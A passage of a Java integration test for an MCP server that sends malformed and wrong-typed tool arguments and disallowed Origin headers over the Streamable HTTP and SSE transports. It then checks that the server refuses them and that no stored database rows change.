                    () -> answer(send("POST", "/mcp", concat(streamableHeaders(), List.of(h("Origin", origin))), bytes(toolsList()))));
            campaign.run("Origin not allowed", label + " GET /sse", REFUSED, null,
                    () -> get("/sse", concat(List.of(h("Accept", "text/event-stream"), h("Origin", origin)), creds(user))));
            campaign.run("Origin not allowed", label + " POST /messages", REFUSED, null,
                    () -> answer(send("POST", sseEndpoint(), concat(sseHeaders(), List.of(h("Origin", origin))), bytes(toolsList()))));
        }
    }

    // --- generators from the input schemas

    @SuppressWarnings("unchecked")
    private static List<JsonNode> wrongValues(Map<String, Object> schema) {
        Object type = schema.get("type");
        List<JsonNode> values = new ArrayList<>();
        ObjectNode object = NODES.objectNode().put("x", 1);
        ArrayNode array = NODES.arrayNode().add("x");
        if (type instanceof List<?> types) { // an id: text or a number, digits only
            values.addAll(List.of(NODES.booleanNode(true), object, NODES.numberNode(1.5), array, NODES.textNode("12a")));
        } else if ("integer".equals(type)) {
            values.addAll(List.of(NODES.textNode("ten"), NODES.numberNode(1.5), NODES.booleanNode(true), object, array,
                    NODES.numberNode(new java.math.BigInteger("99999999999999999999999"))));
        } else if ("boolean".equals(type)) {
            values.addAll(List.of(NODES.textNode("maybe"), NODES.numberNode(2), object, array));
        } else if ("array".equals(type)) {
            values.addAll(List.of(object, NODES.numberNode(3), NODES.booleanNode(false)));
            Map<String, Object> items = (Map<String, Object>) schema.get("items");
            values.add(NODES.arrayNode().add(items != null && "object".equals(items.get("type")) ? NODES.textNode("x") : object));
        } else if ("string".equals(type)) {
            values.addAll(List.of(NODES.numberNode(42), NODES.booleanNode(false), object, array));
            if (schema.containsKey("enum")) {
                values.add(0, NODES.textNode("not-one-of-them"));
            }
        }
        return values;
    }

    /** Arguments that pass the tool's schema: every required property with a plain value of its type. */
    @SuppressWarnings("unchecked")
    private static ObjectNode validArguments(McpSchema.Tool tool) {
        ObjectNode arguments = NODES.objectNode();
        Map<String, Object> properties = (Map<String, Object>) tool.inputSchema().get("properties");
        List<String> required = tool.inputSchema().get("required") == null ? List.of() : (List<String>) tool.inputSchema().get("required");
        for (String name : required) {
            Map<String, Object> schema = (Map<String, Object>) properties.get(name);
            Object type = schema.get("type");
            if (type instanceof List<?>) {
                arguments.put(name, UNKNOWN);
            } else if ("integer".equals(type)) {
                arguments.put(name, 1);
            } else if ("boolean".equals(type)) {
                arguments.put(name, false);
            } else if ("array".equals(type)) {
                arguments.putArray(name).add("probe");
            } else if (schema.containsKey("enum")) {
                arguments.put(name, String.valueOf(((List<Object>) schema.get("enum")).get(0)));
            } else {
                arguments.put(name, "probe");
            }
        }
        return arguments;
    }

    @SuppressWarnings("unchecked")
    private static List<String> idProperties(McpSchema.Tool tool) {
        Map<String, Object> properties = (Map<String, Object>) tool.inputSchema().get("properties");
        return new TreeMap<>(properties).entrySet().stream().filter(p -> ((Map<String, Object>) p.getValue()).get("type") instanceof List<?>)
                .map(Map.Entry::getKey).toList();
    }

    // --- sending

    private String toolCall(String tool, JsonNode arguments) {
        ObjectNode message = NODES.objectNode().put("jsonrpc", "2.0").put("id", ids.incrementAndGet()).put("method", "tools/call");
        message.putObject("params").put("name", tool).set("arguments", arguments);
        return message.toString();
    }

    private String rawCall(String tool, String arguments) {
        return "{\"jsonrpc\":\"2.0\",\"id\":" + ids.incrementAndGet() + ",\"method\":\"tools/call\",\"params\":{\"name\":"
                + JSON.valueToTree(tool) + ",\"arguments\":" + arguments + "}}";
    }

    private String toolsList() {
        return "{\"jsonrpc\":\"2.0\",\"id\":" + ids.incrementAndGet() + ",\"method\":\"tools/list\"}";
    }

    /** One case over each transport: the Streamable HTTP session and the legacy SSE session. */
    private void both(String family, String name, Expect expect, String names, String body) {
        campaign.run(family, name + " /mcp", expect, names, () -> streamable(body));
        campaign.run(family, name + " /sse", expect, names, () -> legacy(body));
    }

    private Answer streamable(String body) {
        HttpResponse<String> response = send("POST", "/mcp", streamableHeaders(), bytes(body));
        if (response.statusCode() == 404 && response.body().contains("session_not_found")) {
            streamableSession = RawMcp.initializeStreamable(uri(""), user); // idle sessions end after 6 s in this execution
            response = send("POST", "/mcp", streamableHeaders(), bytes(body));
        }
        return answer(response);
    }

    /** Posts to the SSE session's message endpoint; a request's answer is read from the stream. */
    private Answer legacy(String body) {
        HttpResponse<String> response = send("POST", sseEndpoint(), sseHeaders(), bytes(body));
        if (response.statusCode() == 404 && response.body().contains("session_not_found")) {
            openSse();
            response = send("POST", sseEndpoint(), sseHeaders(), bytes(body));
        }
        if (response.statusCode() >= 300) {
            return answer(response);
        }
        JsonNode id = requestId(body);
        if (id == null) {
            return new Answer(response.statusCode(), response.body(), null);
        }
        String line = sse.awaitLine("\"id\":" + id + ",", 30_000);
        if (line == null) {
            throw new IllegalStateException("no answer on the SSE stream within 30 s (HTTP " + response.statusCode() + ")");
        }
        StringBuilder data = new StringBuilder(line.substring(line.indexOf('{')));
        for (int more = 0; more < 1000 && requestIdOrNull(data) == null; more++) {
            String next = sse.awaitLine("", 5_000); // chunked transfer: a long event arrives in several chunks
            if (next == null) {
                break;
            }
            if (!next.matches("[0-9a-fA-F]{1,8}")) {
                data.append(next);
            }
        }
        return new Answer(response.statusCode(), response.body(), parse(data.toString()));
    }

    private static JsonNode requestIdOrNull(CharSequence json) {
        try {
            return JSON.readTree(json.toString());
        } catch (IOException | RuntimeException e) {
            return null;
        }
    }

    private static JsonNode requestId(String body) {
        try {
            JsonNode message = JSON.readTree(body);
            JsonNode id = message == null ? null : message.get("id");
            return id != null && (id.isIntegralNumber() || id.isTextual()) && message.has("method") ? id : null;
        } catch (IOException | RuntimeException e) {
            return null;
        }
    }

    private static Answer answer(HttpResponse<String> response) {
        String body = response.body();
        String type = response.headers().firstValue("Content-Type").orElse("");
        JsonNode message = null;
        if (response.statusCode() < 300 && type.startsWith("text/event-stream")) {
            message = body.lines().filter(l -> l.startsWith("data:") && l.contains("\"jsonrpc\"")).map(l -> parse(l.substring(5).trim()))
                    .reduce((a, b) -> b).orElse(null);
        } else if (response.statusCode() < 300 && type.startsWith("application/json") && !body.isBlank()) {
            message = parse(body);
        }
        return new Answer(response.statusCode(), body, message);
    }

    /** Where the container answers (paths outside the MCP endpoints, headers beyond its limits): its own page. */
    private static Answer answerOutsideMcp(HttpResponse<String> response) {
        return response.statusCode() >= 400 && response.statusCode() < 500 && !response.body().contains("\"jsonrpc\"")
                ? new Answer(response.statusCode(), response.body(), null, true) : answer(response);
    }

    private static JsonNode parse(String json) {
        try {
            return JSON.readTree(json);
        } catch (IOException e) {
            throw new IllegalStateException("not JSON: " + Campaign.shorten(json));
        }
    }

    private void openSessions() {
        streamableSession = RawMcp.initializeStreamable(uri(""), user);
        openSse();
    }

    private void openSse() {
        if (sse != null) {
            sse.close();
        }
        sse = RawSse.open(uri(""), "/sse", user.headers());
        sseEndpoint = sse.endpoint();
        HttpResponse<String> init = send("POST", sseEndpoint, sseHeaders(), bytes(INITIALIZE.formatted("2024-11-05")));
        assertTrue(init.statusCode() < 300, init.body());
        assertNotNull(sse.awaitLine("\"protocolVersion\"", 10_000), "the SSE session initializes");
        send("POST", sseEndpoint, sseHeaders(), bytes(INITIALIZED));
    }

    private String sseEndpoint() {
        return sseEndpoint;
    }

    private List<Header> streamableHeaders() {
        return headerList(RawMcp.streamableHeaders(user, streamableSession));
    }

    private List<Header> sseHeaders() {
        return concat(List.of(h("Content-Type", "application/json")), creds(user));
    }

    private static List<Header> creds(TestUsers who) {
        return headerList(who.headers());
    }

    private static List<Header> headerList(Map<String, String> headers) {
        return headers.entrySet().stream().map(e -> h(e.getKey(), e.getValue())).collect(Collectors.toList());
    }

    private static List<Header> concat(List<Header> a, List<Header> b) {
        List<Header> all = new ArrayList<>(a);
        all.addAll(b);
        return all;
    }

    private record Header(String name, String value) {
    }

    private static Header h(String name, String value) {
        return new Header(name, value);
    }

    private static byte[] bytes(String body) {
        return body.getBytes(StandardCharsets.UTF_8);
    }

    private HttpResponse<String> send(String method, String path, List<Header> headers, String body) {
        return send(method, path, headers, bytes(body));
    }

    /** A GET that may open an event stream: its status and headers are the answer, the stream is closed at once. */
    private Answer get(String path, List<Header> headers) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(uri("") + path)).timeout(java.time.Duration.ofSeconds(60)).GET();
        headers.forEach(header -> request.header(header.name(), header.value()));
        try {
            HttpResponse<java.io.InputStream> response = HTTP11.send(request.build(),
                    HttpResponse.BodyHandlers.ofInputStream());
            try (java.io.InputStream body = response.body()) {
                if (response.headers().firstValue("Content-Type").orElse("").startsWith("text/event-stream")) {
                    return new Answer(response.statusCode(), "(an event stream)", null);
                }
                return new Answer(response.statusCode(), new String(body.readAllBytes(), StandardCharsets.UTF_8), null);
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    /** A request with every header as given, repeated ones included. */
    private HttpResponse<String> send(String method, String path, List<Header> headers, byte[] body) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(uri("") + path)).timeout(java.time.Duration.ofSeconds(60))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
        for (Header header : headers) {
            request.header(header.name(), header.value());
        }
        try {
            try {
                return HTTP11.send(request.build(), HttpResponse.BodyHandlers.ofString());
            } catch (IOException e) {
                // A connection the client reused can close under it (keep-alive is 1 s in this execution): once more,
                // counted in the report.
                campaign.retried(e);
                return HTTP11.send(request.build(), HttpResponse.BodyHandlers.ofString());
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    // --- what is stored

    /** The usage rows after {@code id}, once the server has written them all (none added for a second). */
    private static List<String> settledRows(long id) throws Exception {
        List<String> rows = Db.rows("usage_log", "id > ?", id);
        for (int quiet = 0; quiet < 4; quiet++) {
            Thread.sleep(250);
            List<String> now = Db.rows("usage_log", "id > ?", id);
            if (now.size() != rows.size()) {
                quiet = -1;
            }
            rows = now;
        }
        return rows;
    }

    /** Every row of every table the server owns, hashed; usage_log only up to now (new rows are checked apart). */
    private Map<String, List<String>> snapshot(long usageNow) throws SQLException {
        Map<String, List<String>> tables = new TreeMap<>();
        try (Connection db = Db.postgres(); ResultSet names = db.getMetaData().getTables(null, "public", "%", new String[] {"TABLE"})) {
            while (names.next()) {
                String table = names.getString("TABLE_NAME");
                // refused attempts to authorize are counted (per client id and offered secret): that is their purpose
                List<String> rows = table.equals("usage_log") ? Db.rows(table, "id <= ?", usageNow)
                        : table.equals("oauth_token_events") ? Db.rows(table, "event NOT LIKE '%\\_unverified'")
                        : Db.rows(table, "TRUE");
                tables.put(table, rows.stream().map(BadInputIT::sha256).sorted().toList());
            }
        }
        return tables;
    }

    private static long maxUsageId() throws SQLException {
        try (Connection db = Db.postgres(); ResultSet max = db.createStatement().executeQuery("SELECT COALESCE(MAX(id), 0) FROM usage_log")) {
            max.next();
            return max.getLong(1);
        }
    }

    private long lastLogSeq() {
        long last = 0;
        for (JsonNode entry : sdp().call("GET", "/log", null).path("entries")) {
            last = Math.max(last, entry.path("seq").asLong());
        }
        return last;
    }

    private static String sha256(String row) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(row.getBytes(StandardCharsets.UTF_8)));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
